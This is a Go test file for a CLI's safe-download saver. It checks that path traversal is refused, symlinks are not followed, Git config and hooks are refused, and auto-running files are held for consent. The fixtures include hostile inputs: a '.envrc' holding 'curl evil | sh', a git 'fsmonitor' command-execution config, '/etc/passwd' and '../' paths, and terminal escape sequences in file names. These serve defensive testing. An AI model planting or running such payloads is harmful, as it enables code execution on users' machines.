package cli

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-run/airlock/client"
)

// made is an output whose bytes are its ID.
func made(name, content string) client.File {
	sum := sha256.Sum256([]byte(content))
	return client.File{ID: content, Path: name, Size: int64(len(content)), SHA256: hex.EncodeToString(sum[:])}
}

func newSaver(t *testing.T, dir string, answer choice) *saver {
	t.Helper()
	root, err := openFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	return &saver{
		root: root,
		fetch: func(_ context.Context, id string, to io.Writer) error {
			_, err := io.WriteString(to, id)
			return err
		},
		choose: func(string) (choice, error) { return answer, nil },
		allow:  func(string, string) (bool, error) { return true, nil },
	}
}

// tree returns every file below dir with its content.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	files := map[string]string{}
	err := filepath.WalkDir(dir, func(name string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(name)
		rel, _ := filepath.Rel(dir, name)
		files[rel] = string(content)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func TestSave(t *testing.T) {
	tests := []struct {
		name   string
		there  map[string]string
		answer choice
		out    client.File
		want   savedFile
		files  map[string]string
	}{
		{"new", nil, chooseNothing, made("plot.png", "P"), savedFile{Path: "plot.png", As: "plot.png", State: saveDone},
			map[string]string{"plot.png": "P"}},
		{"new folder", nil, chooseNothing, made("a/b/c.txt", "C"),
			savedFile{Path: "a/b/c.txt", As: "a/b/c.txt", State: saveDone}, map[string]string{"a/b/c.txt": "C"}},
		{"empty file", nil, chooseNothing, made("e", ""), savedFile{Path: "e", As: "e", State: saveDone},
			map[string]string{"e": ""}},
		{"same bytes are there", map[string]string{"p": "P"}, chooseNothing, made("p", "P"),
			savedFile{Path: "p", As: "p", State: saveUnchanged}, map[string]string{"p": "P"}},
		{"nobody to ask", map[string]string{"p": "old"}, chooseNothing, made("p", "new"),
			savedFile{Path: "p", As: "", State: saveExists}, map[string]string{"p": "old"}},
		{"no", map[string]string{"p": "old"}, chooseSkip, made("p", "new"), savedFile{Path: "p", As: "", State: saveSkipped},
			map[string]string{"p": "old"}},
		{"yes", map[string]string{"p": "old"}, chooseReplace, made("p", "new"),
			savedFile{Path: "p", As: "p", State: saveDone}, map[string]string{"p": "new"}},
		{"rename", map[string]string{"plot.png": "old"}, chooseRename, made("plot.png", "new"),
			savedFile{Path: "plot.png", As: "plot-1.png", State: saveDone},
			map[string]string{"plot.png": "old", "plot-1.png": "new"}},
		{"rename twice", map[string]string{"d/p.gz": "a", "d/p-1.gz": "b"}, chooseRename, made("d/p.gz", "new"),
			savedFile{Path: "d/p.gz", As: "d/p-2.gz", State: saveDone},
			map[string]string{"d/p.gz": "a", "d/p-1.gz": "b", "d/p-2.gz": "new"}},
		{"rename a dot file", map[string]string{".x": "old"}, chooseRename, made(".x", "new"),
			savedFile{Path: ".x", As: ".x-1", State: saveDone}, map[string]string{".x": "old", ".x-1": "new"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, content := range test.there {
				if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			got, err := newSaver(t, dir, test.answer).save(t.Context(), test.out)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
			if diff := cmp.Diff(test.files, tree(t, dir)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestSaveAsksAboutWhatRuns: what a tool would run or obey by itself is saved
// only if the user agreed to it, and what belongs to Git never.
func TestSaveAsksAboutWhatRuns(t *testing.T) {
	for _, test := range []struct {
		name, content string
		held          bool
	}{
		{".envrc", "curl evil | sh", true}, {".ssh/authorized_keys", "ssh-ed25519 x", true},
		{".vscode/tasks.json", "{}", true}, {"conftest.py", "", true},
		{"Makefile", "all:", true}, {"tool", "#!/bin/sh\n", true},
		{"a.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00", true}, {"run.exe", "x", true},
		{"plot.png", "\x89PNG\r\n\x1a\n", false}, {"data.zip", "PK\x03\x04", false}, {"main.py", "print(1)", false},
	} {
		dir := t.TempDir()
		s := newSaver(t, dir, chooseReplace)
		asked := ""
		s.allow = func(_, why string) (bool, error) { asked = why; return false, nil }
		got, err := s.save(t.Context(), made(test.name, test.content))
		if err != nil || (got.State == saveHeld) != test.held || (asked != "") != test.held || got.Reason != asked {
			t.Errorf("%s: %+v, %q, %v", test.name, got, asked, err)
		}
		if files := tree(t, dir); test.held && len(files) != 0 {
			t.Errorf("%s left %v", test.name, files)
		}
		s.allow = func(string, string) (bool, error) { return true, nil }
		if got, err = s.save(t.Context(), made(test.name, test.content)); err != nil || got.State != saveDone && test.held {
			t.Errorf("%s, agreed to: %+v, %v", test.name, got, err)
		}
	}
}

// TestSavePlantsNoRepository: settings that Git obeys come in no disguise, not
// even together with what is in the folder already.
func TestSavePlantsNoRepository(t *testing.T) {
	for _, paths := range [][]string{
		{".git/config"}, {".GIT/hooks/post-checkout"}, {"sub/.git/commondir"}, {".git"}, {"git~1/config"},
		{"HEAD", "objects/x", "refs/x", "config"}, {"r/HEAD", "r/commondir", "r/config"},
	} {
		dir := t.TempDir()
		s := newSaver(t, dir, chooseReplace)
		outputs := make([]client.File, len(paths))
		for i, name := range paths {
			outputs[i].Path = name
		}
		s.check(outputs)
		for _, name := range paths {
			got, err := s.save(t.Context(), made(name, "[core]\nfsmonitor = touch pwned\n"))
			if code, _ := exitOf(err); code != exitRefused || got.State != saveRefused || got.Reason == "" {
				t.Errorf("%s of %q: %+v, %v", name, paths, got, err)
			}
		}
		if files := tree(t, dir); len(files) != 0 {
			t.Errorf("%q left %v", paths, files)
		}
	}
	dir := t.TempDir()
	for _, name := range []string{"Objects", "refs"} {
		if err := os.Mkdir(filepath.Join(dir, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s := newSaver(t, dir, chooseReplace)
	s.check([]client.File{{Path: "HEAD"}})
	if got, _ := s.save(t.Context(), made("HEAD", "ref: refs/heads/x")); got.State != saveRefused {
		t.Errorf("completes a repository: %+v", got)
	}
}

// A service may be anybody: its paths lead nowhere but into the folder.
func TestSaveRefusesPaths(t *testing.T) {
	for _, name := range []string{"../x", "/etc/passwd", "a/../../x", "..", ".", "", "a//b", "a/", "./a", "a\x00b",
		"a\xff"} {
		outside := t.TempDir()
		dir := filepath.Join(outside, "out")
		got, err := newSaver(t, dir, chooseReplace).save(t.Context(), made(name, "X"))
		if code, _ := exitOf(err); code != exitRefused || got.State != saveRefused {
			t.Errorf("%q: %v, %v", name, got, err)
		}
		if files := tree(t, outside); len(files) != 0 {
			t.Errorf("%q left %v", name, files)
		}
	}
}

// A name is saved with every character that it has, and shown so that a person
// sees each of them.
func TestSaveKeepsNames(t *testing.T) {
	for name, shown := range map[string]string{
		"می\u200cخواهم.csv":      `می\u200cخواهم.csv`,
		"👨\u200d👩\u200d👧.png":    `👨\u200d👩\u200d👧.png`,
		"a\u202egnp.exe":         `a\u202egnp.exe`,
		"out/a\u2028\u0085b":     `out/a\u2028\u0085b`,
		"a\x1b[2J\nb":            `a\x1b[2J\nb`,
		"e\u0301.txt":            "e\u0301.txt",
		"日本 \"a\" \\ \ufffd.txt": "日本 \"a\" \\ \ufffd.txt",
	} {
		dir := filepath.Join(t.TempDir(), "out")
		if got, err := newSaver(t, dir, chooseReplace).save(t.Context(), made(name, "X")); err != nil ||
			got.State != saveDone {
			t.Errorf("%q: %v, %v", name, got, err)
		}
		if diff := cmp.Diff(map[string]string{name: "X"}, tree(t, dir)); diff != "" {
			t.Error(diff)
		}
		if got := printableName(name); got != shown {
			t.Errorf("%q is shown as %s, want %s", name, got, shown)
		}
	}
	if got := printable("می\u200cخواهم \u202e\x1b[2J\xff"); got != "می\u200cخواهم "+`\u202e\x1b[2J\xff` {
		t.Errorf("a sentence is shown as %s", got)
	}
}

func TestSaveFollowsNoLinks(t *testing.T) {
	for _, target := range []string{"outside", "out/inside"} {
		t.Run(target, func(t *testing.T) {
			base := t.TempDir()
			for _, dir := range []string{"outside", "out/inside"} {
				if err := os.MkdirAll(filepath.Join(base, dir), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.Symlink(filepath.Join(base, target), filepath.Join(base, "out/link")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("inside", filepath.Join(base, "out/near")); err != nil {
				t.Fatal(err)
			}
			s := newSaver(t, filepath.Join(base, "out"), chooseReplace)
			for _, name := range []string{"link/x", "near/x"} {
				got, err := s.save(t.Context(), made(name, "X"))
				if code, _ := exitOf(err); code != exitRefused || got.State != saveRefused {
					t.Errorf("%s: %v, %v", name, got, err)
				}
			}
			// A link that has the very name is replaced, not written through.
			if err := os.WriteFile(filepath.Join(base, "outside/precious"), []byte("old"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Join(base, "outside/precious"), filepath.Join(base, "out/leaf")); err != nil {
				t.Fatal(err)
			}
			if _, err := s.save(t.Context(), made("leaf", "new")); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(map[string]string{"outside/precious": "old", "out/leaf": "new"}, tree(t, base)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestSaveLeavesNothingHalf(t *testing.T) {
	broken := errors.New("connection lost")
	tests := []struct {
		name  string
		fetch func(to io.Writer) error
		want  string
	}{
		{"cut off", func(to io.Writer) error { _, _ = io.WriteString(to, "ab"); return broken }, "connection lost"},
		{"short", func(to io.Writer) error { _, err := io.WriteString(to, "ab"); return err }, "checksum"},
		{"other bytes", func(to io.Writer) error { _, err := io.WriteString(to, "abcX"); return err }, "checksum"},
		{"endless", func(to io.Writer) error {
			for {
				if _, err := io.WriteString(to, "abcd"); err != nil {
					return err
				}
			}
		}, "longer than announced"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			s := newSaver(t, dir, chooseNothing)
			s.fetch = func(_ context.Context, _ string, to io.Writer) error { return test.fetch(to) }
			if _, err := s.save(t.Context(), made("f", "abcd")); err == nil || !strings.Contains(err.Error(), test.want) {
				t.Errorf("got %v", err)
			}
			if files := tree(t, dir); len(files) != 0 {
				t.Errorf("left %v", files)
			}
		})
	}
}

// A file that appears between the question and the answer is not overwritten.
func TestSaveRace(t *testing.T) {
	dir := t.TempDir()
	s := newSaver(t, dir, chooseRename)
	raced := false
	s.fetch = func(_ context.Context, id string, to io.Writer) error {
		if !raced {
			raced = true
			if err := os.WriteFile(filepath.Join(dir, "f.txt"), []byte("theirs"), 0o644); err != nil {
				return err
			}
		}
		_, err := io.WriteString(to, id)
		return err
	}
	if _, err := s.save(t.Context(), made("f.txt", "ours")); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(map[string]string{"f.txt": "theirs", "f-1.txt": "ours"}, tree(t, dir)); diff != "" {
		t.Error(diff)
	}
}

// Not even a yes puts a file in the place of a folder, or a folder in that of
// a file.
func TestSaveKeepsFolders(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "d"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "d/f"), []byte("kept"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"d", "d/f/x"} {
		if got, err := newSaver(t, dir, chooseReplace).save(t.Context(), made(name, "X")); err == nil {
			t.Errorf("%s: %v", name, got)
		}
	}
	if diff := cmp.Diff(map[string]string{"d/f": "kept"}, tree(t, dir)); diff != "" {
		t.Error(diff)
	}
}

func TestFolder(t *testing.T) {
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	err := checkFolder(file)
	if code, _ := exitOf(err); code != exitConflict {
		t.Errorf("a file as the folder: %v", err)
	}
	if err := checkFolder(filepath.Join(t.TempDir(), "not/yet")); err != nil {
		t.Error(err)
	}
}
